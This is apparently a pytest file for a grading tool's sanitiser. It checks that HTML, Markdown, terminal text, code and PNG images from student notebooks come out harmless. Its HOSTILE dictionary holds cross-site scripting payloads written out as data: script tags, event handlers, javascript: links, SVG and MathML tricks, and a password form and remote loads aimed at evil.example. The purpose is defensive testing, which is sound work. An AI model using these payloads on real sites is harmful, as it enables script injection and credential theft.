"""What strangers wrote is made harmless: read back by Python's own parser and decoder, not by ours."""

from __future__ import annotations

import base64
import io
import zlib
from html.parser import HTMLParser

import matplotlib.image
import numpy as np
import pytest

from grader.formulas import readable_formula
from grader.sanitise import (
    MAX_MARKUP,
    MAX_TEXT,
    clean_html,
    clean_png,
    clean_text,
    code_lines,
    from_markdown,
    highlighted,
    picture_address,
)

#: What may stand in a page, written down a second time.
ALLOWED = {
    *(
        "p",
        "br",
        "hr",
        "strong",
        "b",
        "em",
        "i",
        "s",
        "del",
        "sub",
        "sup",
        "code",
        "pre",
        "ul",
        "ol",
        "li",
    ),
    *(
        "dl",
        "dt",
        "dd",
        "blockquote",
        "table",
        "caption",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
    ),
}
HOSTILE = {
    "script": "<script>boom()</script>",
    "broken script": "<scr<script>ipt>boom()</scr</script>ipt>",
    "handler": "<img src=x onerror=boom()>",
    "handler on what is allowed": "<p onclick=boom() onmouseover='boom()'>text</p>",
    "svg": "<svg onload=boom()><script>boom()</script><a xlink:href='javascript:boom()'>x</a></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=boom()></style></mglyph></table></math>",
    "address": "<a href='javascript:boom()'>x</a><a href=' java\nscript:boom()'>y</a>",
    "style": "<p style='background:url(http://evil.example/a)'>x</p>",
    "style sheet": "<style>@import url(http://evil.example/b); body{display:none}</style>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/c'>",
    "frame": "<iframe src=http://evil.example/d srcdoc='<script>boom()</script>'></iframe>",
    "base": "<base href=http://evil.example/>",
    "form": "<form action=http://evil.example/e><input name=password><button>Go</button></form>",
    "remote picture": "<img src=http://evil.example/f srcset='http://evil.example/g 2x'>",
    "remote sound": "<video src=http://evil.example/h autoplay></video><audio src=http://evil.example/i>",
    "link": "<link rel=stylesheet href=http://evil.example/j><link rel=prefetch href=//evil.example/k>",
    "object": "<object data=http://evil.example/l></object><embed src=http://evil.example/m>",
    "closing tags": "</div></section></main></body></html><h1>100 of 100 points</h1>",
    "open comment": "text <!-- ",
    "open textarea": "text <textarea> ",
    "open style": "text <style> ",
    "open title": "text <title> ",
    "open script": "text <script> ",
    "open attribute": 'text <p title="',
    "plaintext": "text <plaintext>",
    "template": "<template shadowrootmode=open><script>boom()</script></template>",
    "name": "<p id=first class=card name=body>text</p>",
}


class Tags(HTMLParser):
    """All tags and attributes, the text, and what is open in the end."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(str(html))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


@pytest.mark.parametrize("clean", [clean_html, from_markdown])
@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_nothing_active_is_left(clean: type, html: str) -> None:
    """Only tags of the list come out, balanced, without attributes, whatever goes in."""
    found = Tags(clean(html))
    assert set(found.tags) <= ALLOWED
    assert not found.attributes
    assert not found.open


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_an_answer_in_markdown_is_shown_as_typed(html: str) -> None:
    """Somebody who writes HTML into the answer reads it again, and so does the teacher."""
    typed = Tags(from_markdown(f"`{html}`")).text
    assert "".join(typed.split()) == "".join(html.split())


def test_what_is_harmless_stays() -> None:
    """A table of numbers stays a table, and Markdown keeps its form; titles stay below the page's."""
    table = clean_html("<table class=dataframe><tr><th>a<td>1</table>")
    assert Tags(table).tags == ["table", "tbody", "tr", "th", "td"]
    answer = Tags(
        from_markdown("# Title\n\n**so** $\\lambda^2$ and $\\frac{1}{m}$\n\n| a |\n|---|\n| 1 |")
    )
    assert answer.tags[:3] == ["p", "strong", "p"]
    assert "table" in answer.tags
    assert answer.attributes == [("class", "math")]
    assert "so λ² and $\\frac{1}{m}$" in answer.text


def test_links_and_pictures_in_markdown_are_named_not_followed() -> None:
    """A page leads nowhere and loads nothing; still one can read what was meant."""
    found = Tags(from_markdown("[here](http://a.example/?x=1&y) ![kicks](http://b.example/k.png)"))
    assert found.tags == ["p", "em"]
    assert found.text.strip() == "here (http://a.example/?x=1&y) [picture: kicks]"


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "link"),
        ("10 %\r50 %\rdone\nnext\r\n", "done\nnext\n"),
        ("a\x00b\x08c\u202ed\ufeff", "abcd"),
        ("\ud800", "?"),
        (["two ", "pieces", 3], "two pieces"),
        (None, ""),
    ],
)
def test_text_is_what_a_screen_would_show(raw: object, shown: str) -> None:
    """No colours, no controls, no turned writing; a progress bar shows its last state."""
    assert clean_text(raw) == shown


def test_long_texts_are_cut_and_long_markup_is_text() -> None:
    """Nothing takes more than a moment or more than its room."""
    assert len(clean_text("x" * 10 * MAX_TEXT)) < MAX_TEXT + 10
    long = "<b>" * MAX_MARKUP
    assert Tags(clean_html(long)).tags == Tags(from_markdown(long)).tags == ["pre"]
    assert highlighted(["(" * 10 * MAX_TEXT]) == ["(" * 10 * MAX_TEXT]


@pytest.mark.parametrize("piece", ["[](", "> ", "*a ", "`", "<!--", "((", "![", '"""', "\\"])
def test_nesting_without_end_is_borne(piece: str) -> None:
    """Thousands of brackets in one another end neither the parser nor the highlighter."""
    text = piece * (MAX_MARKUP // len(piece))
    assert set(Tags(from_markdown(text)).tags) <= ALLOWED
    assert Tags("\n".join(highlighted(code_lines(text)))).open == []


def test_code_keeps_its_lines_and_is_escaped() -> None:
    """Line numbers are those of the cell, and code that looks like markup is text."""
    code = '\n\ndef f():\n    """<script>\n    </span>"""\n    return "a" < b\n\n'
    lines = highlighted(code_lines(code))
    assert [Tags(line).text for line in lines] == code.rstrip().split("\n")
    assert {tag for line in lines for tag in Tags(line).tags} == {"span"}


def test_code_is_shown_whole_and_numbered_as_python_numbers_it() -> None:
    """No control of a terminal's hides a line; line ends of every kind count; nothing turns a text round."""
    code = "a = 1  # hidden\rb = 2\r\nc = '\x1b]swallowed\x00'\nd = '\u202e'\x0c\ne = 5 \n\n"
    lines = code_lines(code)
    assert lines == ["a = 1  # hidden", "b = 2", "c = ']swallowed'", "d = ''", "e = 5"]
    assert [Tags(line).text for line in highlighted(lines)] == lines


def png(width: int = 3, height: int = 2, *extra: tuple[bytes, bytes]) -> bytes:
    """A grey PNG, put together by its specification, with more chunks before its data."""
    rows = b"".join(b"\x00" + bytes(range(min(width, 99))) for _ in range(min(height, 10)))
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 0, 0, 0, 0])
    chunks = [(b"IHDR", header), *extra, (b"IDAT", zlib.compress(rows)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")
        for kind, body in chunks
    )


def test_a_picture_keeps_its_pixels_and_nothing_else() -> None:
    """Text, profiles and what comes after the end are left out; what is drawn stays the same."""
    raw = png(3, 2, (b"tEXt", b"Comment\x00<script>boom()</script>"), (b"iCCP", b"x")) + b"<script>"
    clean = clean_png(raw)
    assert clean == png()
    before, after = (matplotlib.image.imread(io.BytesIO(each)) for each in (png(), clean))
    assert np.array_equal(before, after)
    address = picture_address(base64.encodebytes(raw).decode())
    assert address == f"data:image/png;base64,{base64.b64encode(png()).decode()}"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"GIF89a",
        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        png()[:-6],
        png()[:30] + b"\x01" + png()[31:],
        png(100_000, 1),
        png(7_999, 7_999),
        png(0, 1),
        png(3, 2, (b"IHDR", bytes(13))),
        png(3, 2, (b"tEXt", bytes(3_000_000))),
    ],
    ids=[
        "empty",
        "gif",
        "svg",
        "cut",
        "damaged",
        "wide",
        "large",
        "no width",
        "two heads",
        "heavy",
    ],
)
def test_what_is_no_picture_is_not_shown(data: bytes) -> None:
    """Another format, damage, and a size that would fill the browser's memory give no picture."""
    assert picture_address(base64.b64encode(data).decode()) is None


@pytest.mark.parametrize("data", [None, 7, "no base64!", "ü", ["a", 3], {}])
def test_what_is_no_data_is_no_picture(data: object) -> None:
    """A notebook may hold anything where a picture is expected."""
    assert picture_address(data) is None


@pytest.mark.parametrize(
    ("tex", "plain"),
    [
        (r"\lambda = 0.7", "λ = 0.7"),
        (r"W^2 + b_1", "W² + b₁"),
        (r"W^{10}", "W¹⁰"),
        (r"\sum W \cdot x", "∑ W · x"),
        (r"\frac{1}{m}", None),
        (r"W^{[3]}", None),
        (r"\unknown", None),
        ("5 and ", None),
    ],
)
def test_formulas_are_readable_or_as_typed(tex: str, plain: str | None) -> None:
    """Nothing of a formula is lost: it is turned into plain signs as a whole, or not at all."""
    assert readable_formula(tex) == plain
